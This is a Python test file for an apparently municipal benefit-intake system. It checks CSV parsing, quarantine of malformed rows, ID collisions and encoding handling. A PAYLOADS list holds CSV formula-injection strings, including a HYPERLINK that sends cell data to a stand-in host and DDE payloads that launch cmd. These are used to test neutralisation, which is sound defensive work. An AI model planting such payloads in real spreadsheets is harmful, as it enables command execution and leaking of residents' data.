"""Issue 10: every input row means what it says between the inbox files and the database.

One test per observed defect, on SQLite and PostgreSQL where the database is involved.
"""

from __future__ import annotations

import json

import pandas as pd
import pytest
from sqlalchemy import bindparam, select

from services.intake import ingest, persist
from store import models


@pytest.fixture
def small_inbox(tmp_path):
    from devtools.generate import generate_dataset

    directory = tmp_path / "inbox"
    summary = generate_dataset(directory, children=60, seed=5, as_of="2026-10-31", bad_row_share=0.0)
    forget_control_totals(directory)  # these tests edit the files after the "export"
    return directory, summary


def forget_control_totals(directory) -> None:
    manifest = json.loads((directory / "manifest.json").read_text(encoding="utf-8"))
    manifest.pop("files", None)
    (directory / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")


def _persist(engine, inbox, key_ring, run_id="run-1"):
    with engine.begin() as conn:
        return persist.persist_inputs(conn, inbox.frames, key_ring, run_id)


def _stored_flags(engine) -> dict[str, bool]:
    with engine.connect() as conn:
        rows = conn.execute(select(models.Person.person_id, models.Person.dv_support_flag)).all()
    return {person_id: bool(flag) for person_id, flag in rows}


def test_dv_support_flag_is_stored_as_written_in_the_file(engine, key_ring, small_inbox):
    directory, _ = small_inbox
    residents = pd.read_csv(directory / "residents.csv", dtype=str)
    # Make sure both values occur, whatever the generator drew.
    residents.loc[residents.index[:3], "dv_support_flag"] = "1"
    residents.loc[residents.index[3:6], "dv_support_flag"] = "0"
    residents.to_csv(directory / "residents.csv", index=False)

    _persist(engine, ingest.load_inbox(directory), key_ring)

    stored = _stored_flags(engine)
    expected = dict(zip(residents["person_id"], residents["dv_support_flag"].eq("1"), strict=True))
    assert {p: stored[p] for p in expected} == expected
    assert 0 < sum(expected.values()) < len(expected)


def test_rows_stored_under_the_old_flag_mapping_are_rewritten(engine, key_ring, small_inbox):
    directory, _ = small_inbox
    inbox = ingest.load_inbox(directory)
    _persist(engine, inbox, key_ring)
    # What version 1 stored: True for everyone, under a digest of the same text without a version.
    events = inbox.frames["resident_events"]
    persons = persist.current_persons(inbox.frames["residents"], events)
    old = persist.keyed_digest(persons, ["person_id", *persist.PERSON_SOURCE_COLUMNS], key_ring)
    table = models.Person.__table__
    with engine.begin() as conn:
        conn.execute(table.update().where(table.c.person_id == bindparam("pid")).values(
            dv_support_flag=True, row_digest=bindparam("digest")),
            [{"pid": p, "digest": d} for p, d in zip(persons["person_id"], old, strict=True)])
    _persist(engine, inbox, key_ring, run_id="run-2")
    residents = inbox.frames["residents"]
    expected = dict(zip(residents["person_id"], residents["dv_support_flag"].eq("1"), strict=True))
    stored = _stored_flags(engine)
    assert {p: stored[p] for p in expected} == expected


def test_flag_parser_refuses_what_is_not_a_flag():
    from schemas.checks import flag_to_bool

    assert flag_to_bool(pd.Series(["0", "1", "0"])).tolist() == [False, True, False]
    assert flag_to_bool(pd.Series([True, False])).tolist() == [True, False]
    with pytest.raises(ValueError):
        flag_to_bool(pd.Series(["0", "yes"]))
    with pytest.raises(ValueError):
        flag_to_bool(pd.Series(["1", None]))


def test_a_quiet_month_with_no_new_decision_completes(engine, key_ring, small_inbox, tmp_path):
    from sqlalchemy.orm import Session

    from policy import load_policy
    from services.eligibility import decide
    from services.notices import lists, summary

    directory, _ = small_inbox
    _persist(engine, ingest.load_inbox(directory), key_ring)
    results = {}
    for month in ("2026-10", "2026-11"):
        with Session(engine) as session, session.begin():
            results[month] = decide.decide_month(session, month=month, policy=load_policy(), run_id=f"r-{month}",
                                                 operator_id="op")
    assert results["2026-10"]["new_decisions"] > 0
    # The unchanged extract decided again a month later: nothing new, and no crash.
    assert results["2026-11"]["new_decisions"] == 0 and results["2026-11"]["by_type"] == {}
    with Session(engine) as session, session.begin():
        written = lists.export_month_lists(session, "2026-11", None, tmp_path / "out", operator_id="op",
                                           run_id="r-2026-11")
    assert written == {"issuance": 0, "suspension": 0, "loss": 0}
    with engine.connect() as conn:
        report = summary.month_summary(conn, month="2026-11", run_id="r-2026-11", counts={})
    assert sum(report.totals["decisions"].values()) == 0


def _edit(directory, file_name: str, rows: dict[int, dict[str, str]]) -> pd.DataFrame:
    """Set cells of data rows (0-based positions) in an inbox file; return the edited frame."""
    frame = pd.read_csv(directory / file_name, dtype=str, keep_default_na=False)
    for position, cells in rows.items():
        for column, value in cells.items():
            frame.loc[frame.index[position], column] = value
    frame.to_csv(directory / file_name, index=False, lineterminator="\n")
    return frame


def test_dates_outside_the_pandas_range_are_open_ended_or_quarantined(engine, key_ring, small_inbox):
    directory, _ = small_inbox
    insurance = _edit(directory, "insurance.csv", {0: {"valid_to": "9999-12-31"}})
    _edit(directory, "residents.csv", {1: {"birth_date": "0001-01-01"}, 2: {"birth_date": "1677-09-21"},
                                       3: {"residence_start_date": "9999-12-31"}})
    _edit(directory, "resident_events.csv", {0: {"event_date": "9999-12-31"}})

    inbox = ingest.load_inbox(directory)  # used to raise OutOfBoundsDatetime

    covered = inbox.frames["insurance"]
    first = covered[(covered["person_id"] == insurance.loc[0, "person_id"])
                    & (covered["insurer_number"] == insurance.loc[0, "insurer_number"])]
    assert len(first) == 1 and pd.isna(first["valid_to"].iloc[0])  # 9999-12-31 = still covered
    q = inbox.quarantine
    out_of_range = q[q["check_name"] == "date_in_supported_range"]
    assert sorted(zip(out_of_range["file_name"], out_of_range["row_number"], out_of_range["column_name"])) == [
        ("resident_events.csv", 2, "event_date"), ("residents.csv", 3, "birth_date"),
        ("residents.csv", 4, "birth_date"), ("residents.csv", 5, "residence_start_date")]
    assert out_of_range["reason"].str.contains("outside").all()
    _persist(engine, inbox, key_ring)
    with engine.connect() as conn:
        stored_to = conn.execute(select(models.InsuranceCoverage.valid_to).where(
            models.InsuranceCoverage.person_id == insurance.loc[0, "person_id"],
            models.InsuranceCoverage.insurer_number == insurance.loc[0, "insurer_number"])).scalars().all()
    assert stored_to == [None]


def _lines(directory, file_name: str) -> list[str]:
    return (directory / file_name).read_text(encoding="utf-8").split("\n")


def _write_lines(directory, file_name: str, lines: list[str]) -> None:
    (directory / file_name).write_text("\n".join(lines), encoding="utf-8")


def _accounted_by_line(inbox) -> None:
    for row in inbox.inputs.to_dict("records"):
        assert row["row_count"] == row["accepted_count"] + row["quarantined_count"], row


@pytest.mark.parametrize("second_quote", [False, True], ids=["quote-to-end-of-file", "quote-closed-later"])
def test_a_stray_quote_quarantines_its_line_and_nobody_vanishes(engine, key_ring, small_inbox, second_quote):
    directory, _ = small_inbox
    lines = _lines(directory, "residents.csv")
    header = lines[0].split(",")
    address = header.index("address")
    broken = {5: 1, 8: 1} if second_quote else {5: 1}  # line index -> where the quote goes
    for index in broken:
        cells = lines[index].split(",")
        cells[address] = '"' + cells[address]
        lines[index] = ",".join(cells)
    _write_lines(directory, "residents.csv", lines)
    physical = len([line for line in lines[1:] if line])

    inbox = ingest.load_inbox(directory)

    residents = inbox.frames["residents"]
    q = inbox.quarantine[inbox.quarantine["file_name"] == "residents.csv"]
    unreadable = q[q["check_name"] == "readable_csv_record"]
    assert sorted(unreadable["row_number"]) == [i + 1 for i in broken]  # line number = index + 1
    assert unreadable["masked_value"].isna().all()
    assert len(residents) + q["row_number"].nunique() == physical
    _accounted_by_line(inbox)
    # The lines after the stray quote are their own persons, with their own birth dates.
    following = lines[6].split(",")
    row = residents[residents["person_id"] == following[0]]
    assert len(row) == 1 and str(row["birth_date"].iloc[0].date()) == following[header.index("birth_date")]
    assert not residents["address"].str.contains("\n").any()
    _persist(engine, inbox, key_ring)


def test_a_bare_cr_inside_a_line_quarantines_that_line(small_inbox):
    directory, _ = small_inbox
    lines = _lines(directory, "residents.csv")
    name = lines[0].split(",").index("name")
    cells = lines[3].split(",")
    cells[name] = cells[name][:1] + "\r" + cells[name][1:]
    lines[3] = ",".join(cells)
    _write_lines(directory, "residents.csv", lines)

    inbox = ingest.load_inbox(directory)
    q = inbox.quarantine
    assert q.loc[q["check_name"] == "readable_csv_record", "row_number"].tolist() == [4]
    _accounted_by_line(inbox)


def _collisions(engine, directory, key_ring):
    from services.intake import collisions

    with engine.connect() as conn:
        return collisions.quarantine_my_number_collisions(conn, ingest.load_inbox(directory), key_ring)


def test_swapped_my_numbers_quarantine_both_persons_and_the_month_goes_on(engine, key_ring, small_inbox):
    directory, _ = small_inbox
    _persist(engine, ingest.load_inbox(directory), key_ring)
    residents = pd.read_csv(directory / "residents.csv", dtype=str, keep_default_na=False)
    a, b = residents.loc[4, "my_number"], residents.loc[9, "my_number"]
    _edit(directory, "residents.csv", {4: {"my_number": b}, 9: {"my_number": a}})

    inbox = _collisions(engine, directory, key_ring)

    q = inbox.quarantine[inbox.quarantine["check_name"] == "my_number_collision"]
    swapped = {residents.loc[4, "person_id"], residents.loc[9, "person_id"]}
    assert set(q.loc[q["file_name"] == "residents.csv", "row_number"]) == {6, 11}
    assert q["reason"].str.contains("line").all() and not q["masked_value"].isin([a, b]).any()
    assert not inbox.frames["residents"]["person_id"].isin(swapped).any()
    assert not inbox.frames["resident_events"]["person_id"].isin(swapped).any()
    _accounted_by_line(inbox)
    _persist(engine, inbox, key_ring, run_id="run-2")  # used to abort with DB_INTEGRITY person.my_number_hmac


def test_an_event_of_an_absent_person_with_a_residents_number_quarantines_both(engine, key_ring, small_inbox):
    directory, _ = small_inbox
    residents = pd.read_csv(directory / "residents.csv", dtype=str, keep_default_na=False)
    events = pd.read_csv(directory / "resident_events.csv", dtype=str, keep_default_na=False)
    stray = events.iloc[[0]].assign(event_id="EV9999999999", person_id="9999999990",
                                    my_number=residents.loc[2, "my_number"])
    pd.concat([events, stray]).to_csv(directory / "resident_events.csv", index=False, lineterminator="\n")

    inbox = _collisions(engine, directory, key_ring)

    q = inbox.quarantine[inbox.quarantine["check_name"] == "my_number_collision"]
    assert ("resident_events.csv", len(events) + 2) in set(zip(q["file_name"], q["row_number"], strict=True))
    assert ("residents.csv", 4) in set(zip(q["file_name"], q["row_number"], strict=True))
    assert q.loc[q["row_number"] == 4, "reason"].str.contains(f"resident_events.csv line {len(events) + 2}").all()
    _accounted_by_line(inbox)
    _persist(engine, inbox, key_ring)
    with engine.connect() as conn:
        ids = set(conn.execute(select(models.Person.person_id)).scalars())
    assert "9999999990" not in ids and residents.loc[2, "person_id"] not in ids
    assert residents.loc[3, "person_id"] in ids


PAYLOADS = ['=HYPERLINK("http://example.invalid/?"&A1,"山田")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", '=WEBSERVICE("http://example.invalid/")']


def test_formula_payloads_in_names_are_neutralised_in_the_staff_lists(engine, key_ring, small_inbox, tmp_path):
    from sqlalchemy.orm import Session

    from policy import load_policy
    from services.eligibility import decide
    from services.notices import lists

    directory, _ = small_inbox
    residents = pd.read_csv(directory / "residents.csv", dtype=str, keep_default_na=False)
    _edit(directory, "residents.csv", {i: {"name": PAYLOADS[i % 5], "address": PAYLOADS[(i + 1) % 5]}
                                       for i in range(len(residents))})
    _persist(engine, ingest.load_inbox(directory), key_ring)
    with Session(engine) as session, session.begin():
        decide.decide_month(session, month="2026-10", policy=load_policy(), run_id="r", operator_id="op")
        written = lists.export_month_lists(session, "2026-10", key_ring, tmp_path / "out", operator_id="op",
                                           run_id="r", with_names=True)
    assert written["issuance"] > 5
    issued = pd.read_csv(tmp_path / "out" / "2026-10" / "print" / "受給者証交付一覧_2026-10.csv", encoding="cp932",
                         dtype=str, keep_default_na=False)
    for column in ("氏名", "住所"):
        assert issued[column].str.startswith("'").all()
        assert set(issued[column].str[1:]) <= set(PAYLOADS) and len(set(issued[column])) == 5


def test_the_cell_helper_neutralises_each_trigger_and_leaves_numbers_alone():
    from privacy.csv_cells import neutralise_cell, neutralise_frame

    for payload in [*PAYLOADS, "\tx", "\rx"]:
        assert neutralise_cell(payload) == "'" + payload
    assert neutralise_cell("山田 太郎") == "山田 太郎" and neutralise_cell(-200) == -200
    frame = pd.DataFrame({"name": PAYLOADS + ["山田"], "amount": [-1, 2, 3, 4, 5, -6]})
    out = neutralise_frame(frame)
    assert out["name"].tolist() == ["'" + p for p in PAYLOADS] + ["山田"]
    assert out["amount"].tolist() == frame["amount"].tolist()
    assert frame["name"].tolist()[0] == PAYLOADS[0]  # the input is not changed


@pytest.mark.parametrize("encoding", ["utf-8", "cp932"])
def test_control_characters_in_names_are_refused_in_both_encodings(tmp_path, encoding):
    from devtools.generate import generate_dataset

    directory = tmp_path / "inbox"
    generate_dataset(directory, children=20, seed=9, encoding=encoding, bad_row_share=0.0)
    forget_control_totals(directory)
    controls = ["\x00", "\x1b", "\x07", "\x0b"] + (["\x85", "\u2028"] if encoding == "utf-8" else [])
    lines = (directory / "residents.csv").read_text(encoding=encoding).split("\n")
    header = lines[0].split(",")
    for offset, control in enumerate(controls):
        cells = lines[2 + offset].split(",")
        column = header.index("name") if offset % 2 == 0 else header.index("address")
        cells[column] = cells[column][:1] + control + cells[column][1:]
        lines[2 + offset] = ",".join(cells)
    (directory / "residents.csv").write_bytes("\n".join(lines).encode(encoding))

    inbox = ingest.load_inbox(directory)

    q = inbox.quarantine
    flagged = q[q["check_name"].str.endswith("_no_control_characters")]
    assert sorted(flagged["row_number"]) == [3 + offset for offset in range(len(controls))]
    assert flagged["masked_value"].str.fullmatch(r"\*+").all()  # names and addresses show no character
    _accounted_by_line(inbox)


def _stated(directory) -> dict:
    return json.loads((directory / "manifest.json").read_text(encoding="utf-8"))


@pytest.mark.parametrize("keep", ["half", "header-only"])
def test_a_file_truncated_at_a_line_boundary_refuses_the_inbox(tmp_path, keep):
    from connectors.files import InputFileError
    from devtools.generate import generate_dataset

    directory = tmp_path / "inbox"
    generate_dataset(directory, children=30, seed=4, bad_row_share=0.0)
    assert _stated(directory)["files"]["tax.csv"]["rows"] > 2
    lines = _lines(directory, "tax.csv")
    kept = lines[: len(lines) // 2] if keep == "half" else lines[:1]
    _write_lines(directory, "tax.csv", [*kept, ""])
    with pytest.raises(InputFileError, match="control total mismatch") as caught:
        ingest.load_inbox(directory)
    assert caught.value.file == "tax.csv" and "rows" in caught.value.problem


def test_a_changed_file_with_the_same_row_count_refuses_the_inbox(tmp_path):
    from connectors.files import InputFileError
    from devtools.generate import generate_dataset

    directory = tmp_path / "inbox"
    generate_dataset(directory, children=30, seed=4, bad_row_share=0.0)
    data = (directory / "insurance.csv").read_bytes()
    (directory / "insurance.csv").write_bytes(data.replace(b"2", b"3", 1))
    with pytest.raises(InputFileError, match="SHA-256") as caught:
        ingest.load_inbox(directory)
    assert caught.value.file == "insurance.csv"


def test_absent_control_totals_are_a_warning_in_the_summary(tmp_path):
    from devtools.generate import generate_dataset

    directory = tmp_path / "inbox"
    generate_dataset(directory, children=30, seed=4, bad_row_share=0.0)
    assert ingest.load_inbox(directory).warnings == []
    manifest = _stated(directory)
    del manifest["files"]["residents.csv"]
    (directory / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    inbox = ingest.load_inbox(directory)
    assert len(inbox.warnings) == 1 and inbox.warnings[0].startswith("residents.csv: no control total")
    assert inbox.counts()["warnings"] == inbox.warnings


def test_gaiji_are_kept_mapped_where_registered_and_listed_where_not(tmp_path):
    from devtools.generate import generate_dataset
    from services.intake import gaiji

    directory = tmp_path / "inbox"
    generate_dataset(directory, children=20, seed=9, encoding="cp932", bad_row_share=0.0)
    forget_control_totals(directory)
    raw = (directory / "residents.csv").read_bytes().split(b"\n")
    header = raw[0].decode().split(",")
    mapped_row, unmapped_row = raw[2].split(b","), raw[3].split(b",")
    name, address = header.index("name"), header.index("address")
    mapped_row[name] = b"\xf0\x40" + mapped_row[name]                  # U+E000: registered as 髙
    unmapped_row[name] = unmapped_row[name] + b"\xf1\x40"              # U+E0BC: not registered
    unmapped_row[address] = b"\xf1\x40\xf9\xfc" + unmapped_row[address]  # U+E0BC, U+E757
    raw[2], raw[3] = b",".join(mapped_row), b",".join(unmapped_row)
    (directory / "residents.csv").write_bytes(b"\n".join(raw))

    inbox = ingest.load_inbox(directory)  # one 外字 used to refuse the whole file

    residents = inbox.frames["residents"].set_index("person_id")
    mapped_id, unmapped_id = mapped_row[0].decode(), unmapped_row[0].decode()
    assert residents.loc[mapped_id, "name"] == "髙" + mapped_row[name].decode("cp932")[1:]
    assert residents.loc[unmapped_id, "name"].endswith("\ue0bc")
    assert residents.loc[unmapped_id, "address"].startswith("\ue0bc\ue757")
    assert inbox.gaiji_unmapped == [{"person": "********" + unmapped_id[-2:], "characters": 3}]
    assert inbox.counts()["gaiji_unmapped"] == inbox.gaiji_unmapped

    table = tmp_path / "gaiji.csv"
    table.write_text("unicode,cp932,standard,description\nU+E0BC,F140,㐂,test\nU+E757,F9FC,喜,test\n",
                     encoding="utf-8")
    registered = ingest.load_inbox(directory, gaiji.load_table(table))
    assert registered.gaiji_unmapped == [{"person": "********" + mapped_id[-2:], "characters": 1}]  # 髙 not here
    assert registered.frames["residents"].set_index("person_id").loc[unmapped_id, "name"].endswith("㐂")


def test_a_gaiji_table_row_that_is_not_gaiji_is_refused(tmp_path):
    from connectors.files import InputFileError
    from services.intake import gaiji

    table = tmp_path / "gaiji.csv"
    table.write_text("unicode,cp932,standard,description\nU+3042,82A0,あ,not a 外字\n", encoding="utf-8")
    with pytest.raises(InputFileError, match="U\\+E000") as caught:
        gaiji.load_table(table)
    assert caught.value.line == 2


def test_application_of_a_child_without_a_guardian_is_stored_not_a_database_error(engine, key_ring, small_inbox):
    """applications.csv allows an empty guardian (a child of 15+ applies alone, 規則第4条): it must persist."""
    directory, _ = small_inbox
    applications = pd.read_csv(directory / "applications.csv", dtype=str, keep_default_na=False)
    alone = applications.index[0]
    applications.loc[alone, ["guardian_person_id", "spouse_person_id"]] = ""
    applications.to_csv(directory / "applications.csv", index=False)

    inbox = ingest.load_inbox(directory)
    assert inbox.quarantine.empty
    _persist(engine, inbox, key_ring)

    with engine.connect() as conn:
        stored = dict(conn.execute(select(models.Application.application_id,
                                          models.Application.guardian_person_id)).all())
    assert len(stored) == len(applications)
    assert stored[applications.loc[alone, "application_id"]] is None
